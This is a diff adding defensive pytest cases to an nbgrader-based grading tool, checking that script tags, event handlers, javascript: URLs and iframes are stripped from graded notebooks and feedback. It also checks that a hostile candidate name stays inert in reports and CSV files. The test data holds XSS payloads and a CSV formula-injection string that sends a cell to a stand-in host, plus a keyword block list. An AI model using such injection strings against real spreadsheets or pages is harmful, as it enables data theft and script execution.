@@ -8,6 +8,11 @@ collected, graded in one ``mdpc autograde`` run (cells limited to 15 s here inst
 grader, decisions, reports (HTML) and jury minutes. The reference candidate h01 hands in the solution as it
 is: every other candidate's outcome is read against it, and h01 must come out untouched by what the others
 did. Every incident reaches the candidate's report (« Incidents de correction ») and the minutes.
+
+h17 to h19 attack whoever reads a copy (issue 15, « everything rendered is made safe »): active content in a
+Markdown answer (h17) or in outputs (h18) must be gone from the graded copy, from formgrader's page and from
+the feedback, and reported; a hostile display name and grader's comment (h19) must stay text in the grading
+form, the reports, the minutes, the feedback and the PDF, and be neutralised in the CSV files.
 """
 
 from __future__ import annotations
@@ -23,6 +28,7 @@ from pathlib import Path
 import nbformat
 import pytest
 import yaml
+from markup import MARKER, active_markup, formgrader_page, formgrader_resources
 
 from mdpc import demo
 from mdpc.app import collect, decide, publish
@@ -34,6 +40,7 @@ from mdpc.grading.exchange import exchange_step
 from mdpc.grading.incidents import note_failures, read_incidents
 from mdpc.grading.ratings import RatingBook
 from mdpc.grading.sandbox import status
+from mdpc.grading.sanitize import ACTIVE_CONTENT
 
 pytestmark = pytest.mark.slow
 A = "B4_pilotage_performance"
@@ -81,6 +88,9 @@ def _apply(home, folder, spec, course_root):
     for target, mib in spec.get("fichier_creux_mio", {}).items():
         with open(home / target, "wb") as fh:
             fh.truncate(mib * 1024 * 1024)
+    for nb, sources in spec.get("cellules_markdown", {}).items():
+        _edit(home / nb, lambda book, sources=sources: book.cells.extend(
+            nbformat.v4.new_markdown_cell(text) for text in sources))
 
 
 def _digest(folder):
@@ -89,11 +99,14 @@ def _digest(folder):
 
 
 def _rate_c41(course, students):
-    """A grader rates every criterion of C4.1 « acquis » (3) for the copies that could be graded."""
+    """A grader rates every criterion of C4.1 « acquis » (3) for the copies that could be graded (the grader's
+    name and comment of the fixture's `correcteur` and `commentaire_correcteur` when it has them)."""
     book = RatingBook(course)
     for sid in students:
+        spec = BEHAVIOURS[sid]
         for k in range(1, len(default_grids()["C4.1"].criteria) + 1):
-            book.record(A, sid, "C4.1", k, "Correctrice Essai", 3, "Critère atteint.")
+            book.record(A, sid, "C4.1", k, spec.get("correcteur", "Correctrice Essai"), 3,
+                        spec.get("commentaire_correcteur", "Critère atteint."))
     return book
 
 
@@ -109,8 +122,9 @@ def hostile(tmp_path_factory):
     course = demo.prepare_course(root)
     with course.gradebook() as gb:  # `nbgrader db assignment add` and `db student add`, through nbgrader's API
         gb.update_or_create_assignment(A, duedate=DUE)
-        for sid in BEHAVIOURS:
-            gb.update_or_create_student(sid, first_name=BEHAVIOURS[sid]["description"], last_name="Essai")
+        for sid, spec in BEHAVIOURS.items():
+            gb.update_or_create_student(sid, first_name=spec.get("prenom", spec["description"]),
+                                        last_name=spec.get("nom", "Essai"))
     course.run_in_process("generate_assignment", A)
     course.run_in_process("release_assignment", A)
     homes = {sid: root / "candidats" / sid / A for sid in BEHAVIOURS}
@@ -158,7 +172,8 @@ def test_reference_copy_earns_everything_and_only_the_killed_kernel_fails(hostil
     assert "autocorrection en échec" in hostile["errors"]["h05"]
     assert not (hostile["root"] / "autograded" / "h05" / A).exists()
     same = {sid for sid, b in BEHAVIOURS.items() if "mêmes points que la référence" in b["issue_attendue"]}
-    assert same == {"h02", "h03", "h04", "h06", "h07", "h08", "h12", "h15", "h16", "h34"}  # as documented
+    assert same == {"h02", "h03", "h04", "h06", "h07", "h08", "h12", "h15", "h16", "h17", "h18", "h19",
+                    "h34"}  # as documented
     for sid in same:
         assert hostile["scores"][sid] == ref, sid
 
@@ -378,3 +393,147 @@ def test_a_sabotaging_function_only_loses_its_own_test(hostile):
     assert scores[NB1]["C4_1_test_charge"] == 0 < ref[NB1]["C4_1_test_charge"]
     assert scores[NB1]["C4_1_test_capacite"] == ref[NB1]["C4_1_test_capacite"]
     assert scores[NB2] == ref[NB2] and scores[NB3] == ref[NB3]
+
+
+# --- h17 to h19: everything rendered is made safe ----------------------------------------------------------
+
+ACTIVE = ("h17", "h18")  # active content in a Markdown answer, in outputs
+
+
+def test_active_content_is_gone_from_the_graded_copies_and_formgrader(hostile):
+    """The marker sits only where it would act (an event handler, a URL, a script): after recording, no graded
+    notebook holds it, and formgrader's page of each shows nothing active."""
+    for sid in ACTIVE:
+        assert "contenu_actif_retire" in _kinds(hostile, sid), sid
+        for path in sorted((hostile["root"] / "autograded" / sid / A).glob("*.ipynb")):
+            text = path.read_text(encoding="utf-8")
+            assert MARKER not in text, (sid, path.name)
+            nb = nbformat.reads(text, as_version=4)
+            shown = json.dumps([c.source for c in nb.cells if c.cell_type != "code"]
+                               + [o.get("data", {}) for c in nb.cells for o in c.get("outputs", [])]
+                               + [nb.metadata.get("widgets", {})]).lower()  # what is rendered as markup
+            for bad in ("onerror", "<script", "javascript:", "<iframe", "<object", "<form", "application/javascript"):
+                assert bad not in shown, (sid, path.name, bad)
+            page = formgrader_page(path, formgrader_resources(sid))
+            assert active_markup(page) == [] and MARKER not in page, (sid, path.name)
+    submitted = (hostile["root"] / "submitted" / "h17" / A / f"{NB1}.ipynb").read_text(encoding="utf-8")
+    assert MARKER in submitted  # the evidence stays as handed in
+
+
+def test_active_content_is_reported_with_its_notebook_and_cell(hostile):
+    h17 = [i for i in hostile["incidents"]["h17"] if i["type"] == ACTIVE_CONTENT]
+    assert [i["carnet"] for i in h17] == [NB1]
+    assert "balise <script>" in h17[0]["message"] and "attribut onerror" in h17[0]["message"]
+    assert "adresse javascript:" in h17[0]["message"] and "balise <iframe>" in h17[0]["message"]
+    h18 = next(i for i in hostile["incidents"]["h18"] if i["type"] == ACTIVE_CONTENT)["message"]
+    assert "(id C4_1_capacite_rep)" in h18 and "sortie application/javascript" in h18
+    assert "script d'une image SVG" in h18 and "balise <iframe>" in h18 and "balise <object>" in h18
+    graded = _graded(hostile, "h18", NB1)
+    if graded.metadata.get("widgets"):  # the widget state nbclient saved: the HTML widget was cleaned
+        assert "état des widgets" in h18
+    html = {o["candidat"]: Path(o["html"]).read_text(encoding="utf-8") for o in hostile["reports"]["candidats"]}
+    for sid in ACTIVE:
+        assert "Contenu actif retiré du carnet" in html[sid], sid
+    with open(hostile["reports"]["pv_csv"], encoding="utf-8-sig") as fh:
+        rows = {r["candidat"]: r for r in csv.DictReader(fh, delimiter=";")}
+    assert "incident(s) corrigé(s) avant notation" in Path(hostile["reports"]["pv"]["html"]).read_text(encoding="utf-8")
+    assert all("Contenu actif retiré" in rows[sid]["incidents de correction"] for sid in ACTIVE)
+    assert not any(i["type"] == ACTIVE_CONTENT for sid in BEHAVIOURS if sid not in ACTIVE
+                   for i in hostile["incidents"].get(sid, []))  # nobody else's copy was touched
+
+
+def test_the_reference_copy_keeps_its_tables_forms_and_figures(hostile):
+    """Cleaning keeps what the cases legitimately show: pandas tables, the forms' summaries, png figures."""
+    kinds, html = set(), []
+    for path in sorted((hostile["root"] / "autograded" / "h01" / A).glob("*.ipynb")):
+        for cell in nbformat.read(path, as_version=4).cells:
+            for out in cell.get("outputs", []):
+                kinds |= set(out.get("data", {}))
+                html.append(out.get("data", {}).get("text/html", ""))
+    page = "".join(html)
+    assert {"text/html", "image/png", "application/vnd.jupyter.widget-view+json"} <= kinds
+    assert "<table" in page and "Réponses enregistrées" in page and "<caption" in page
+    assert "Description du graphique" in page and "white-space:pre-wrap" in page
+    assert hostile["records"]["h01"]["incidents"] == []
+
+
+def test_feedback_of_hostile_copies_shows_nothing_active(hostile):
+    course = hostile["course"]
+    course.nbgrader("generate_feedback", A, "--student", "h1[789]", "--force")
+    for sid in ("h17", "h18", "h19"):
+        pages = sorted((hostile["root"] / "feedback" / sid / A).glob("*.html"))
+        assert len(pages) == 3, sid
+        for page in pages:
+            text = page.read_text(encoding="utf-8")
+            assert active_markup(text) == [], (sid, page.name, active_markup(text))
+            if sid in ACTIVE:
+                assert MARKER not in text, (sid, page.name)
+    c41 = (hostile["root"] / "feedback" / "h19" / A / f"{NB1}.html").read_text(encoding="utf-8")
+    assert "[clic](javascript:" in c41 and "&lt;script&gt;" in c41  # the grader's comment, as text
+
+
+def _h19(hostile):
+    return BEHAVIOURS["h19"]
+
+
+def test_hostile_name_and_comment_stay_text_in_the_grading_form(hostile):
+    from mdpc.grading.rating_form import RubricEntry
+
+    spec = _h19(hostile)
+    entry = RubricEntry(cours=hostile["root"], devoir=A, correcteur=spec["correcteur"])
+    label = {sid: text for text, sid in entry.candidate.options}["h19"]
+    assert label.startswith('=HYPERLINK("http://example.invalid/?"&A1;"clic") <img src=x')  # a plain-text label
+    entry.candidate.value = "h19"
+    shown = [entry.progress.value] + [p.html for p in entry.panels.values()]
+    entry.jury.value = True  # the jury sees every grader's name and comment
+    shown += [entry.progress.value] + [p.html for p in entry.panels.values()]
+    page = "\n".join(shown)
+    assert active_markup(page) == [], active_markup(page)
+    assert "&lt;b onmouseover=mdpc_xss()&gt;Correctrice&lt;/b&gt;" in page and "&lt;script&gt;" in page
+
+
+def test_hostile_name_and_comment_stay_text_in_the_reports_and_the_minutes(hostile):
+    reports = {o["candidat"]: Path(o["html"]).read_text(encoding="utf-8") for o in hostile["reports"]["candidats"]}
+    minutes = Path(hostile["reports"]["pv"]["html"]).read_text(encoding="utf-8")
+    cohort = Path(hostile["reports"]["cohorte"]["html"]).read_text(encoding="utf-8")
+    for name, page in [*reports.items(), ("pv", minutes), ("cohorte", cohort)]:
+        assert active_markup(page) == [], (name, active_markup(page))
+    assert '=HYPERLINK("http://example.invalid/?"&amp;A1;"clic") &lt;img src=x onerror=mdpc_xss()&gt;' in reports["h19"]
+    assert "onerror=mdpc_xss()" in minutes  # the name is there, as text
+    assert "[clic](javascript:mdpc_xss())" in reports["h19"]  # the grader's comment, as text
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text.replace(",", "."))
+        return True
+    except ValueError:
+        return False
+
+
+def test_hostile_name_is_neutralised_in_the_csv_files(hostile):
+    out = Path(hostile["reports"]["csv"]).parent
+    for name in ("cohorte_decisions.csv", "pv_jury.csv"):
+        with open(out / name, encoding="utf-8-sig", newline="") as fh:
+            rows = {r["candidat"]: r for r in csv.DictReader(fh, delimiter=";")}
+        assert rows["h19"]["nom"].startswith("'=HYPERLINK("), name
+        assert rows["h01"]["nom"] == "copie de référence (corrigé) Essai"
+        for row in rows.values():  # numbers stay numbers; no other cell can start a formula
+            assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) and not _number(v) for v in row.values()), row
+
+
+def test_hostile_names_pdf_reads_nothing_from_the_host_or_the_network(hostile, monkeypatch):
+    import socket
+
+    from mdpc.reports import batch
+
+    connections, made = [], []
+    monkeypatch.setattr(socket.socket, "connect", lambda self, address: connections.append(address))
+    monkeypatch.setattr(batch, "data_only_fetcher", lambda real=batch.data_only_fetcher: made.append(real()) or made[-1])
+    out = Path(hostile["reports"]["csv"]).parent
+    for stem in ("rapport_h19", "pv_jury"):
+        nb = nbformat.read(out / f"{stem}.ipynb", as_version=4)
+        assert batch.to_pdf(nb, out / f"{stem}.pdf", f"Relevé — {_h19(hostile)['prenom']} {_h19(hostile)['nom']}") is None
+        assert (out / f"{stem}.pdf").read_bytes().startswith(b"%PDF")
+    assert len(made) == 2 and all(f.refused == [] for f in made)  # escaped: no URL ever reached WeasyPrint
+    assert connections == []
